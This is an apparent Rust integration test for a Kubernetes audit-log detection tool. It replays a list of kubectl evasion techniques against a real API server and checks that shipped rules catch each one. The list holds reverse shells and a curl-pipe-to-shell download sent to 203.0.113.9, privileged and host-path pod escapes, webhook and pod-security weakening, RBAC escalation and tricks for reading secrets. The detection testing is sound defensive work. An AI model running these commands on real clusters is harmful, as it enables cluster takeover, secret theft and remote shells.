//! Ways around the shipped rules, tried on a real API server: each is done with kubectl, and the rules that must see it all
//! the same are asked over what the API server wrote. That it takes such a request at all is what no hand-written event shows.

#![allow(
    clippy::unwrap_used,
    clippy::print_stderr,
    reason = "a test stops at surprises, and says what it left out"
)]

use std::collections::BTreeSet;
use std::fs;
use std::sync::Arc;

use auditward_detect::{Batch, Config, Engine, RuleSet};
use auditward_event::Events;
use auditward_rules::library;
use auditward_testkit::{ApiServer, Program};
use memchr::memmem;

const POLICY: &str = "apiVersion: audit.k8s.io/v1\nkind: Policy\nomitStages: [RequestReceived]\nrules: [{level: RequestResponse}]\n";
const CONTROLLER_MANAGER: &str = "system:kube-controller-manager";
/// `hunter2`, as a Secret carries it.
const PASSWORD: &[u8] = b"aHVudGVyMg==";
const NODE: &str = "system:node:node-1";

/// What stands in the cluster before.
const BEFORE: &str = r#"
apiVersion: v1
kind: Namespace
metadata: {name: shop, labels: {pod-security.kubernetes.io/enforce: restricted}}
---
apiVersion: v1
kind: Namespace
metadata: {name: lab}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: default, namespace: lab}
---
apiVersion: v1
kind: Secret
metadata: {name: db, namespace: shop}
stringData: {password: hunter2}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec: {containers: [{name: web, image: "registry.example/web:1"}]}
---
apiVersion: v1
kind: Endpoints
metadata: {name: web, namespace: shop}
subsets: [{addresses: [{ip: 10.244.0.7}], ports: [{port: 80}]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: ops}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: olga}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: auditors}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: olga}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: nearly}
rules: [{apiGroups: ["*"], resources: ["*"], verbs: [get]}]
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: guard}
webhooks:
- &webhook
  name: one.guard.example
  clientConfig: {url: "https://guard.example/"}
  rules: [{apiGroups: [guard.example], apiVersions: [v1], operations: [CREATE], resources: [things]}]
  failurePolicy: Fail
  sideEffects: None
  admissionReviewVersions: [v1]
- {<<: *webhook, name: two.guard.example}
- {<<: *webhook, name: three.guard.example}
- {<<: *webhook, name: four.guard.example}
"#;

/// The rules that must give an alert, who does it, and one kubectl, in which an underscore is a space within a word.
const STEPS: &str = r#"
built-in-identity-by-hand | system:kube-controller-manager get secrets -A
built-in-identity-by-hand | system:node:node-1 get nodes node-1
cluster-admin-binding | admin set subject clusterrolebinding ops --user=mallory
strong-role-binding | admin set subject clusterrolebinding auditors --user=mallory
privileged-pod patch-in-disguise | admin patch deployment web -n shop --type=json -p [{"op":"add","path":"/spec/template/spec/containers/-1/securityContext","value":{"privileged":true}}]
privileged-pod patch-in-disguise | admin patch deployment web -n shop --type=json -p [{"op":"replace","path":"/spec/template/spec/containers/+0/securityContext","value":{"privileged":true,"runAsUser":0}}]
host-pid patch-in-disguise | admin patch deployment web -n shop --type=json -p [{"op":"add","path":"x/spec/template/spec/hostPID","value":true}]
patch-in-disguise | admin patch deployment web -n shop --type=json -p [{"op":"copy","from":"/spec/template/spec/hostPID","path":"/spec/template/spec/hostNetwork"}]
patch-in-disguise | admin patch deployment web -n shop --type=json -p [{"op":"add","path":"/metadata/labels","value":{"x":"true"}},{"op":"move","from":"/metadata/labels/x","path":"/metadata/annotations/x"}]
sensitive-host-path | admin run a -n lab --image=a --overrides {"spec":{"volumes":[{"name":"v","hostPath":{"path":"//"}}]}}
sensitive-host-path | admin run b -n lab --image=a --overrides {"spec":{"volumes":[{"name":"v","hostPath":{"path":"/."}}]}}
sensitive-host-path | admin run c -n lab --image=a --overrides {"spec":{"volumes":[{"name":"v","hostPath":{"path":"/var/./lib/"}}]}}
sensitive-host-path | admin run d -n lab --image=a --overrides {"spec":{"volumes":[{"name":"v","hostPath":{"path":"/run/k3s/containerd/containerd.sock"}}]}}
privileged-pod | admin run e -n lab --image=a --overrides {"spec":{"securityContext":{"windowsOptions":{"hostProcess":true}},"hostNetwork":true}}
workload-reverse-shell | admin create cronjob f -n lab --image=a --schedule=0_0_*_*_* -- sh -c bash_-i_>&_/dev/tcp/203.0.113.9/443_0>&1
workload-reverse-shell | admin create job g -n lab --image=a -- nc 203.0.113.9 4444 -e /bin/sh
workload-reverse-shell | admin run i -n lab --image=a --overrides {"spec":{"containers":[{"name":"i","image":"a","command":["nc"],"args":["203.0.113.9","4444","-e","/bin/sh"]}]}}
workload-reverse-shell | admin create job j -n lab --image=a -- sh -c nc_-c_bash_203.0.113.9_443
workload-reverse-shell | admin create job k -n lab --image=a -- socat tcp:203.0.113.9:443 SYSTEM:/bin/bash
sensitive-host-path | admin run l -n lab --image=a --overrides {"spec":{"volumes":[{"name":"v","hostPath":{"path":"/usr/local"}}]}}
workload-runs-download | admin create job h -n lab --image=a -- sh -c curl_-s_http://203.0.113.9/x|sh
secrets-read-by-writing | admin delete --raw /api/v1/namespaces/shop/secrets?dryRun=All
secrets-read-by-writing | admin patch secret db -n shop --type=merge -p {}
secrets-read-by-writing | admin patch secret db -n shop --type=json -p []
secrets-read-by-writing | admin patch secret db -n shop --type=merge -p {"metadata":{}}
secrets-read-by-writing | admin patch secret db -n shop --type=merge --dry-run=server -p {"metadata":{"labels":{"a":"b"}}}
secrets-read-by-writing | admin delete --raw /api/v1/namespaces/shop/secrets/db?dryRun=All&propagationPolicy=Foreground
admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=json -p [{"op":"remove","path":"/webhooks/0"}]
admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=json -p [{"op":"remove","path":"/webhooks/-1"}]
admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=strategic -p {"webhooks":[{"$patch":"delete","name":"two.guard.example"}]}
admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=json -p [{"op":"add","path":"/webhooks/0/objectSelector","value":{"matchLabels":{"a":"b"}}}]
admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=json -p [{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["nonesuch"]}]
admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=strategic -p {"webhooks":[{"$patch":"replace"}]}
admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=merge -p {"webhooks":null}
pod-security-lowered | admin patch namespace shop --type=json -p [{"op":"replace","path":"/metadata/labels","value":{"team":"a"}}]
pod-security-lowered | admin patch namespace shop --type=merge -p {"metadata":{"labels":null}}
pod-security-lowered | admin patch namespace shop --type=strategic -p {"metadata":{"labels":{"$patch":"replace","team":"b"}}}
pod-security-lowered | admin patch namespace shop --type=json -p [{"op":"replace","path":"/metadata","value":{"name":"shop"}}]
pod-security-lowered | admin patch namespace shop --type=strategic -p {"metadata":{"$patch":"replace","name":"shop"}}
escalation-role | admin create clusterrole a --verb=get --resource=*/proxy
role-gathers-rules | admin create clusterrole c --aggregation-rule=a=b
node-proxy-command | admin get --raw /api/v1/nodes/nowhere/proxy/pods/%2e%2e/exec/shop/web/web?command=id
all-powerful-role | admin patch clusterrole nearly --type=json -p [{"op":"replace","path":"/rules/0/verbs/0","value":"*"}]
endpoints-changed-by-hand | admin patch endpoints web -n shop --type=json -p [{"op":"add","path":"/subsets/0/addresses/-","value":{"ip":"203.0.113.9"}}]
cluster-plumbing-changed | admin delete --raw /api/v1/namespaces/kube-system/configmaps
admin-subjects-changed | admin delete --raw /apis/rbac.authorization.k8s.io/v1/clusterrolebindings?labelSelector=kubernetes.io/bootstrapping=rbac-defaults
admin-subjects-changed | admin delete --raw /apis/rbac.authorization.k8s.io/v1/clusterrolebindings
"#;

#[test]
fn each_is_seen() {
    if let Err(error) = Program::get() {
        assert!(std::env::var_os("CI").is_none(), "CI must have a real kube-apiserver: {error}");
        eprintln!("skipped: {error}");
        return;
    }
    let api = ApiServer::builder()
        .audit_policy(POLICY)
        .user(CONTROLLER_MANAGER, &["system:masters"])
        .user(NODE, &["system:nodes"])
        .arg("--allow-privileged=true")
        .start()
        .unwrap();
    api.kubectl().apply(BEFORE).unwrap();
    let rules = library::load_shipped().rules.into_iter().filter(|rule| rule.enabled).collect();
    let rules = Arc::new(RuleSet::compile(rules).unwrap());
    let mut missed = Vec::new();
    for line in STEPS.lines().filter(|line| !line.is_empty()) {
        let (wanted, command) = line.split_once(" | ").unwrap();
        let (who, words) = command.split_once(' ').unwrap();
        // The log mode is blocking: what was answered has been written.
        let start = fs::metadata(api.audit_log()).unwrap().len();
        let words: Vec<String> = words.split(' ').map(|word| word.replace('_', " ")).collect();
        let answer = api.kubectl_as(who).run(&words);
        let log = fs::read(api.audit_log()).unwrap();
        let log = &log[usize::try_from(start).unwrap()..];
        let seen = alerts(&rules, log);
        if wanted == "secrets-read-by-writing" {
            assert!(memmem::find(log, PASSWORD).is_some(), "{line} did not give the secret away: {answer:?}");
        }
        for rule in wanted.split(' ').filter(|rule| !seen.contains(*rule)) {
            missed.push(format!("{rule} in {line}: {answer:?}\n  {seen:?}"));
        }
    }
    assert!(missed.is_empty(), "{} not seen:\n{}", missed.len(), missed.join("\n"));
}

/// The rules that gave an alert over these lines.
fn alerts(rules: &Arc<RuleSet>, log: &[u8]) -> BTreeSet<String> {
    let mut engine = Engine::new(Arc::clone(rules), Config::default());
    let (mut matcher, mut batch, mut alerts) = (engine.matcher(), Batch::default(), Vec::new());
    let mut events = Events::new(log);
    while let Some(event) = events.next() {
        matcher.look(&event.unwrap().view, &mut batch);
    }
    engine.absorb(&mut batch, &mut alerts);
    engine.finish(&mut alerts);
    alerts.into_iter().map(|alert| alert.rule.to_string()).collect()
}
